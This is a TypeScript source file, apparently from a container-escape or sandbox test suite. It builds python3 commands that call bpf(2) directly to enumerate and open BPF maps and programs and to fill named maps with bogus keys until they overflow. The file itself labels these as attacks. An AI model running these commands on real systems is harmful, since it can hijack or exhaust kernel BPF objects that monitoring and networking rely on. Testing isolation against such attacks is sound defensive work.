// Attacks with system calls that no common program makes, in python3 of the Debian image.

/** The start of every attack: `libc`, which reports errors, and `call(NUMBER, ...)` for system calls. */
const begin = [
  'import ctypes, fcntl, os, socket, struct, sys',
  'libc = ctypes.CDLL(None, use_errno=True)',
  'def done(answer):',
  '  if answer < 0: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))',
  '  return answer',
  'def call(number, *given): return done(libc.syscall(number, *given))',
].join('\n')

/** A command that runs these Python lines, as a single line of text. */
export const python = (...lines: string[]): readonly string[] => [
  'python3',
  '-c',
  `exec(${JSON.stringify([begin, ...lines].join('\n'))})`,
]

/** Python lines that run `found` for each BPF object of a kind whose name starts with `name`; `fd` is the object. */
const eachBpfObject = (kind: BpfKind, name: string, found: readonly string[]): readonly string[] => [
  'number, seen = 0, []',
  'while True:',
  '  room = ctypes.create_string_buffer(struct.pack("=II", number, 0), 64)',
  `  try: call(321, ${kind.next}, room, 12)`,
  '  except FileNotFoundError: break',
  '  number = struct.unpack_from("=I", room, 4)[0]',
  '  room = ctypes.create_string_buffer(struct.pack("=I", number), 64)',
  `  try: fd = call(321, ${kind.open}, room, 12)`,
  '  except PermissionError as error: seen.append(error.strerror); continue',
  '  about = ctypes.create_string_buffer(256)',
  '  call(321, 15, ctypes.create_string_buffer(struct.pack("=IIQ", fd, 256, ctypes.addressof(about)), 64), 16)',
  `  if about.raw[${kind.nameAt}:].startswith(b"${name}"):`,
  ...found.map((line) => `    ${line}`),
]

/** A command that looks for a BPF object of a kind by its id with bpf(2), and ends with status 0 if it opened one. */
export const findBpfObject = (kind: BpfKind, name: string): readonly string[] =>
  python(...eachBpfObject(kind, name, ['sys.exit(print("taken"))']), 'sys.exit(str(set(seen)))')

/**
 * A command that writes `count` made-up keys to each BPF map whose name starts with `name`, until the map is full. It
 * prints how many keys it wrote to each.
 */
export const fillBpfMap = (name: string, count: number): readonly string[] =>
  python(
    'counts = []',
    ...eachBpfObject(bpfMap, name, [
      'key, value = struct.unpack_from("=II", about.raw, 8)',
      'value = ctypes.create_string_buffer(value)',
      'counts.append(0)',
      `for made in range(1, ${count} + 1):`,
      '  key_of = ctypes.create_string_buffer(struct.pack("=Q", made << 40).ljust(key, b"\\0"))',
      '  given = struct.pack("=IIQQQ", fd, 0, ctypes.addressof(key_of), ctypes.addressof(value), 0)',
      '  try: call(321, 2, ctypes.create_string_buffer(given), 32)',
      '  except OSError as error:',
      '    if error.errno != 7: raise',
      '    break',
      '  counts[-1] += 1',
    ]),
    'print(*counts)',
  )

interface BpfKind {
  next: number
  open: number
  nameAt: number
}

/** Command numbers of bpf(2), and the offset of the name in the kernel's data about an object. */
export const bpfMap = { next: 12, open: 14, nameAt: 24 }
export const bpfProgram = { next: 11, open: 13, nameAt: 64 }
